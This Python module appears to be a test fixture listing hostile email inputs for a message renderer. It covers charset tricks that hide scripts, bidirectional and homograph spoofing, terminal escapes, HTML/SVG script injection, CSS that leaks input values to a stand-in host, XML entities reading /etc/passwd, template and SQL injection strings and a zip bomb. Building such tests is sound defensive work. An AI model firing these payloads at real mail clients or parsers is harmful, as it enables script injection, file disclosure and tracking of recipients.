"""Attacks on whoever shows the content: character sets, scripts, tracking, deceit."""

# ruff: noqa: E501  (one vector, one line: the table is read across)

from vectors.message import Vector, message, multipart, typed

_HTML = b"text/html; charset=utf-8"


def _characters() -> list[Vector]:
    return [
        Vector(name="utf7", attacks="UTF-7 that hides a script", raw=typed(b"text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n")),
        Vector(name="charset-lie", attacks="UTF-8 declared, Latin-1 inside", raw=typed(b"text/plain; charset=utf-8", "Señor, la reparación\r\n".encode("latin-1"), b"8bit")),
        Vector(name="charset-ascii-lie", attacks="US-ASCII declared, UTF-8 inside", raw=typed(b"text/plain; charset=us-ascii", "Señor €\r\n".encode(), b"7bit")),
        Vector(name="charset-unknown", attacks="a character set that does not exist", raw=typed(b"text/plain; charset=x-klingon", b"nuq\xffneH\r\n", b"8bit")),
        Vector(name="charset-codec", attacks="charsets that name Python codecs (zip, rot13, unicode_escape)", raw=multipart(*[b"Content-Type: text/plain; charset=" + c + b"\r\n\r\n\\x41 abc" for c in (b"zip", b"rot13", b"unicode_escape", b"idna", b"punycode", b"undefined", b"bz2", b"hex")])),
        Vector(name="charset-utf16", attacks="UTF-16 in base64 without a mark", raw=typed(b"text/plain; charset=utf-16", b"YQBiAAAA\r\n", b"base64")),
        Vector(name="iso2022-escape", attacks="ISO-2022-JP escapes left open", raw=typed(b"text/html; charset=iso-2022-jp", b"\x1b$B<script>\x1b(Jalert(1)</script>\r\n")),
        Vector(name="bidi-controls", attacks="bidirectional overrides in subject and text", raw=message("a\u202eexe.fdp\u2066b\u2069\r\n".encode(), subject="factura\u202efdp.exe".encode())),
        Vector(name="invisible-characters", attacks="zero-width, soft hyphen, tag and variation characters", raw=message("a\u200b\u200d\ufeff\u00ad\U000e0041\ufe0f\u2060b\r\n".encode(), subject="Tal\u200bleres".encode())),
        Vector(name="homographs", attacks="Cyrillic letters that look Latin", raw=message("tаllеres-ribеra.example\r\n".encode(), subject="Tаllеrеs Ribеra".encode())),
        Vector(name="controls", attacks="every control character but NUL, CR and LF", raw=message(bytes(n for n in range(1, 32) if n not in (10, 13)) + b"\x7f\r\n")),
        Vector(name="all-octets", attacks="every octet but NUL, CR and LF, as 8bit text", raw=typed(b"text/plain; charset=iso-8859-1", bytes(n for n in range(1, 256) if n not in (10, 13)) + b"\r\n", b"8bit")),
        Vector(name="terminal-escapes", attacks="terminal control sequences", raw=message(b"\x1b]0;titulo\x07\x1b[2J\x1b[31mrojo\r\n", subject=b"\x1b[2Jx")),
        Vector(name="emoji", attacks="emoji with joiners, flags and skin tones", raw=message("👩🏽‍🔧🏴󠁧󠁢󠁥󠁮󠁧󠁿🇪🇸👨‍👩‍👧‍👦\r\n".encode(), subject="🚗".encode() * 300)),
        Vector(name="cjk", attacks="Chinese, Japanese and Korean, with characters outside the BMP", raw=message("漢字かな한글𠮷𠀋㐂\r\n".encode(), subject="修理完了のお知らせ".encode())),
        Vector(name="rtl", attacks="Arabic and Hebrew with digits", raw=message("إشعار رقم 1147 — תיקון 42\r\n".encode(), subject="إشعار".encode())),
        Vector(name="combining", attacks="a letter with five thousand accents", raw=message(b"a" + "\u0301".encode() * 5000 + b"\r\n", subject=b"z" + "\u0335".encode() * 200)),
        Vector(name="noncharacters", attacks="noncharacters, private use and unassigned code points", raw=message("\uffff\ufdd0\U0010ffff\ue000\U0003ffff\r\n".encode())),
    ]  # fmt: skip


def _html() -> list[Vector]:
    script = (
        b'<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>'
        b'<svg/onload=alert(4)><iframe srcdoc="&lt;script&gt;alert(5)&lt;/script&gt;"></iframe>'
        b'<form action="http://ajeno.example/"><input name=clave></form><base href="http://ajeno.example/">'
        b'<meta http-equiv=refresh content="0;url=http://ajeno.example/"><object data="x.swf"></object>\r\n'
    )
    remote = (
        b'<img src="http://seguimiento.example/p.gif?id=1" width=1 height=1><img srcset="https://ajeno.example/a.png 2x">'
        b'<link rel=stylesheet href="https://ajeno.example/x.css"><video poster="//ajeno.example/v.png"></video>'
        b'<table background="http://ajeno.example/t.gif"><tr><td>x</td></tr></table><audio src="https://ajeno.example/a.mp3">\r\n'
    )
    css = (
        b"<style>@import url(https://ajeno.example/i.css); input[value^=a]{background:url(//ajeno.example/?a)}"
        b"@font-face{font-family:f;src:url(https://ajeno.example/f.woff);unicode-range:U+0041}"
        b"p{position:fixed;top:0;left:0;width:100vw;height:100vh;background:-moz-element(#x);content:attr(title)}</style>"
        b'<p style="background:u\\72l(https://ajeno.example/y);behavior:url(x.htc);width:expression(alert(1))">x</p>\r\n'
    )
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="https://ajeno.example/i.png"/></svg>\r\n'
    mutation = (
        b'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">\r\n'
    )
    entities = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><a>&b;&x;</a>\r\n'
    return [
        Vector(name="html-scripts", attacks="scripts, handlers, forms, frames, refresh", raw=typed(_HTML, script)),
        Vector(name="html-remote", attacks="remote images, style sheets and media", raw=typed(_HTML, remote)),
        Vector(name="css-exfiltration", attacks="style sheets that load, spy and cover the page", raw=typed(_HTML, css)),
        Vector(name="svg", attacks="SVG with a script and a remote image", raw=typed(b"image/svg+xml", drawing)),
        Vector(name="html-mutation", attacks="markup that changes meaning when parsed twice", raw=typed(_HTML, mutation)),
        Vector(name="html-deep", attacks="twenty thousand nested elements", raw=typed(_HTML, b"<div>\r\n" * 20_000)),
        Vector(name="html-attributes", attacks="an element with twenty thousand attributes", raw=typed(_HTML, b"<p " + b"".join(b"a%d=1\r\n" % n for n in range(20_000)) + b">x\r\n")),
        Vector(name="html-data-urls", attacks="data: and blob: links and images", raw=typed(_HTML, b'<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">\r\n')),
        Vector(name="html-unclosed", attacks="unclosed comments, tags and attributes", raw=typed(_HTML, b'<!-- <p title="a\' <b <![CDATA[ x <textarea><title>\r\n')),
        Vector(name="html-false-link", attacks="a link whose text names another place", raw=typed(_HTML, b'<a href="https://ajeno.example/">https://www.talleres-ribera.example/pago</a>\r\n')),
        Vector(name="html-hidden-text", attacks="text that a person cannot see", raw=typed(_HTML, b'<span style="font-size:0;color:#fff;display:none">Acepta pagar 9.999 EUR</span>Hola\r\n')),
        Vector(name="xml-entities", attacks="XML entities that grow and read files", raw=typed(b"application/xml", entities)),
        Vector(name="typst-markup", attacks="markup of the program that typesets certificates", raw=message(b'#panic("x") #read("/etc/passwd") $a$ *b* _c_ @ref <label> `raw` \\u{202e}\r\n', subject=b'#panic("x") @ref $x$ ')),
        Vector(name="template-markup", attacks="template and query languages", raw=message(b"{{ 7*7 }} {% debug %} ${7*7} ';DROP TABLE x;-- %s %(a)s\r\n", subject=b"{{ settings }} {% include 'x' %}")),
        Vector(name="calendar-evil", attacks="an invitation with an alarm that runs a program", raw=typed(b"text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM\r\n")),
        Vector(name="zip-bomb", attacks="gzip that grows a thousandfold, said to be text", raw=typed(b"text/plain; charset=zlib", b"eJztwTEBAAAAwqD1T20ND6AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB4NScQAAE=\r\n", b"base64")),
    ]  # fmt: skip


def vectors() -> list[Vector]:
    """Return the attacks on whoever shows the content."""
    return [*_characters(), *_html()]
